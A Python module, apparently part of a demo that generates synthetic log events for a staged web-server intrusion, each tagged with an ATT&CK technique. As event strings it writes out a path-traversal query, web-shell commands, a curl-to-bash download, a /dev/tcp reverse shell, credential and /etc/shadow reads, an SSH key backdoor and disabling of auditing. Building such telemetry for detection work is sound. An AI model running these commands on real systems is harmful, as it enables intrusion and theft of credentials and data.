"""The web server: scanned, opened through its upload form, taken over, left for the database."""

from __future__ import annotations

from vedette.demo.company import DB01, OPERATOR, STAGER, WEB01
from vedette.demo.intrusion.story import Story
from vedette.demo.ordinary.web import BROWSERS
from vedette.demo.shapes import execve, linux_process, request, syslog

SHELL = "/uploads/2026/11/avatar-4471.php"
BACK_DOOR = "/opt/.cache"
PHP, SH = "/usr/sbin/php-fpm8.2", "/usr/bin/dash"
SCANNED = ("/admin/", "/backup/", "/.git/config", "/uploads/", "/download.php")


def scan(story: Story) -> None:
    """A list of names is tried on the shop."""
    for stem in SCANNED:
        status = 403 if stem == "/uploads/" else 200 if stem == "/download.php" else 404
        event = request(story.now, OPERATOR, "GET", stem, status, "gobuster/3.6", size=548)
        story.tell("scan", "T1595.003", event, 0.4)


def web_shell(story: Story) -> None:
    """A hole shows the shop's configuration; a picture that is a script goes up and answers."""
    agent = BROWSERS[2]
    query = "file=..%2f..%2fconfig%2fservices.yaml"
    leak = request(story.now, OPERATOR, "GET", "/download.php", 200, agent, query, 2113)
    story.tell("read configuration", "T1190", leak, 180)
    upload = request(story.now, OPERATOR, "POST", "/account/avatar", 302, agent)
    story.tell("upload", "T1190", upload, 30)
    for command in ("id", "uname+-a", "cat+/etc/passwd"):
        event = request(story.now, OPERATOR, "GET", SHELL, 200, agent, f"c={command}", 412)
        story.tell("web shell", "T1505.003", event, 0.2)
        line = command.replace("+", " ")
        _run(story, SH, f"sh -c {line}", PHP, "T1505.003", 0.1)
        program = "/usr/bin/" + line.split()[0]
        _run(story, program, line, SH, "T1082" if "uname" in line else "T1033", 25)


def foothold(story: Story) -> None:
    """A shell of its own, root through a careless program, and the secrets of the machine."""
    fetch = f'sh -c "curl -fsSL http://{STAGER}/s.sh | bash"'
    _run(story, SH, fetch, PHP, "T1105", 4)
    shell = f'bash -c "bash -i >& /dev/tcp/{OPERATOR}/4443 0>&1"'
    _run(story, "/usr/bin/bash", shell, SH, "T1059.004", 60)
    _run(story, "/usr/bin/bash", 'bash -c "unset HISTFILE; exec bash"', SH, "T1070.003", 90)
    event = execve(WEB01, story.now, story.rng, f"chmod u+s {BACK_DOOR}")
    story.tell("foothold", "T1548.001", event, 40)
    _run(story, "/usr/bin/cat", "cat /etc/shadow", BACK_DOOR, "T1003.008", 30, "root")
    keys = "cat /home/deploy/.aws/credentials"
    _run(story, "/usr/bin/cat", keys, BACK_DOOR, "T1552.001", 60, "root")
    add = 'sh -c "echo ssh-ed25519 AAAAC3NzaC1lZDI1 ops >> /root/.ssh/authorized_keys"'
    _run(story, SH, add, BACK_DOOR, "T1098.004", 30, "root")
    event = execve(WEB01, story.now, story.rng, "auditctl -e 0")
    story.tell("foothold", "T1685.004", event)


def _run(
    story: Story,
    program: str,
    line: str,
    parent: str,
    technique: str,
    pause: float,
    user: str = "www-data",
) -> None:
    event = linux_process(WEB01, story.now, story.rng, program, line, parent, user)
    story.tell("commands on the web server", technique, event, pause)


def pivot(story: Story) -> None:
    """The broken root password opens the database server too."""
    port = story.rng.randrange(49152, 65535)
    for message in (
        f"Accepted password for root from {WEB01.ip} port {port} ssh2",
        "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
    ):
        event = syslog(DB01, story.now, story.rng, "sshd", message)
        story.tell("pivot", "T1021.004", event, 6)
    for line in ("hostname", "pg_dump --table=customers --file=/tmp/.c.sql shop"):
        program = "/usr/bin/" + line.split()[0]
        event = linux_process(DB01, story.now, story.rng, program, line, "/usr/bin/bash", "root")
        story.tell("pivot", "T1005", event, 30)
